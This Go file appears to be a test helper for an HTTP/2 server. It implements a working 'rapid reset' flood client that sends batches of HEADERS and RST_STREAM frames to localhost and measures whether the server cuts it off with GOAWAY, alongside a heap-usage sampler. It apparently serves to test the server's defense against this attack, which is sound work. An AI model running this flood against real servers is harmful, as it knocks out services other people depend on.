package server

import (
	"bufio"
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"runtime"
	"sync"
	"sync/atomic"
	"time"
)

// A hand-written HTTP/2 client that misbehaves on purpose (RFC 9113 framing, a static-table
// HPACK block): the standard client will not send what an attacker sends.

const (
	h2FrameHeaders   = 0x1
	h2FrameRSTStream = 0x3
	h2FrameSettings  = 0x4
	h2FrameGoAway    = 0x7

	h2FlagEndStream  = 0x1
	h2FlagAck        = 0x1
	h2FlagEndHeaders = 0x4

	h2ErrCancel = 0x8
)

const h2Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// h2GetBlock is GET https://localhost/ in HPACK: :method GET, :scheme https and :path / from
// the static table (indexes 2, 7, 4), and :authority (index 1) as a literal without indexing.
var h2GetBlock = append([]byte{0x82, 0x87, 0x84, 0x01, byte(len("localhost"))}, "localhost"...)

func h2AppendFrame(b []byte, typ, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	b = append(b, byte(n>>16), byte(n>>8), byte(n), typ, flags)
	b = binary.BigEndian.AppendUint32(b, stream&0x7fffffff)
	return append(b, payload...)
}

// h2AttackResult is what one rapid-reset connection saw.
type h2AttackResult struct {
	Sent       int    // streams opened and reset (HEADERS then RST_STREAM)
	GoAway     bool   // the server sent GOAWAY
	LastStream uint32 // its last-stream-id: the streams the server let in
	Code       uint32 // its error code
	Closed     bool   // the server closed the connection
	Err        error  // dial or handshake failure
}

// CutOff reports whether the server stopped the attack (GOAWAY or a close).
func (r h2AttackResult) CutOff() bool { return r.GoAway || r.Closed }

// h2RapidReset opens one TLS connection with ALPN h2 and sends up to maxStreams pairs of
// HEADERS (a complete GET) and RST_STREAM(CANCEL) as fast as the connection takes them, reading
// (and discarding) everything the server sends, until the server sends GOAWAY or closes. After
// the last stream it waits up to linger for the server's verdict.
func h2RapidReset(addr string, pool *x509.CertPool, maxStreams int, linger time.Duration) h2AttackResult {
	var res h2AttackResult
	d := &net.Dialer{Timeout: 30 * time.Second} // handshakes queue behind the attack on a busy server
	c, err := tls.DialWithDialer(d, "tcp", addr, &tls.Config{RootCAs: pool, ServerName: "localhost", NextProtos: []string{"h2"}})
	if err != nil {
		res.Err = err
		return res
	}
	defer c.Close()
	if p := c.ConnectionState().NegotiatedProtocol; p != "h2" {
		res.Err = errors.New("server did not negotiate h2 but " + p)
		return res
	}

	var wmu sync.Mutex
	write := func(b []byte) error {
		wmu.Lock()
		defer wmu.Unlock()
		c.SetWriteDeadline(time.Now().Add(5 * time.Second))
		_, err := c.Write(b)
		return err
	}
	if err := write(h2AppendFrame([]byte(h2Preface), h2FrameSettings, 0, 0, nil)); err != nil {
		res.Err = err
		return res
	}

	var (
		stop     = make(chan struct{})
		goAway   atomic.Bool
		lastID   atomic.Uint32
		code     atomic.Uint32
		readDone = make(chan struct{})
	)
	go func() {
		defer close(readDone)
		br := bufio.NewReaderSize(c, 64<<10)
		hdr := make([]byte, 9)
		for {
			if _, err := io.ReadFull(br, hdr); err != nil {
				return // closed (or our own close after the verdict)
			}
			n := int(hdr[0])<<16 | int(hdr[1])<<8 | int(hdr[2])
			payload := make([]byte, n)
			if _, err := io.ReadFull(br, payload); err != nil {
				return
			}
			switch hdr[3] {
			case h2FrameSettings:
				if hdr[4]&h2FlagAck == 0 {
					write(h2AppendFrame(nil, h2FrameSettings, h2FlagAck, 0, nil))
				}
			case h2FrameGoAway:
				if n >= 8 && !goAway.Load() {
					lastID.Store(binary.BigEndian.Uint32(payload) & 0x7fffffff)
					code.Store(binary.BigEndian.Uint32(payload[4:]))
					goAway.Store(true)
					close(stop)
				}
			}
		}
	}()

	// Batches of pairs, so the attack is limited by the server, not by syscalls.
	const batch = 32
	rst := binary.BigEndian.AppendUint32(nil, h2ErrCancel)
	buf := make([]byte, 0, batch*64)
	id := uint32(1)
send:
	for res.Sent < maxStreams {
		select {
		case <-stop:
			break send
		case <-readDone:
			break send
		default:
		}
		buf = buf[:0]
		for i := 0; i < batch && res.Sent < maxStreams; i++ {
			buf = h2AppendFrame(buf, h2FrameHeaders, h2FlagEndHeaders|h2FlagEndStream, id, h2GetBlock)
			buf = h2AppendFrame(buf, h2FrameRSTStream, 0, id, rst)
			id += 2
			res.Sent++
		}
		if err := write(buf); err != nil {
			break // the server closed (or stopped reading for 5 s)
		}
	}
	select {
	case <-stop:
	case <-readDone:
	case <-time.After(linger):
	}
	res.GoAway = goAway.Load()
	res.LastStream, res.Code = lastID.Load(), code.Load()
	select {
	case <-readDone:
		res.Closed = true
	default:
	}
	c.Close()
	<-readDone
	return res
}

// heapPeak samples the heap in use every 5 ms until stop is closed, then reports the peak.
func heapPeak(stop <-chan struct{}) <-chan uint64 {
	out := make(chan uint64, 1)
	go func() {
		var peak uint64
		var ms runtime.MemStats
		tick := time.NewTicker(5 * time.Millisecond)
		defer tick.Stop()
		for {
			runtime.ReadMemStats(&ms)
			peak = max(peak, ms.HeapInuse)
			select {
			case <-stop:
				out <- peak
				return
			case <-tick.C:
			}
		}
	}()
	return out
}
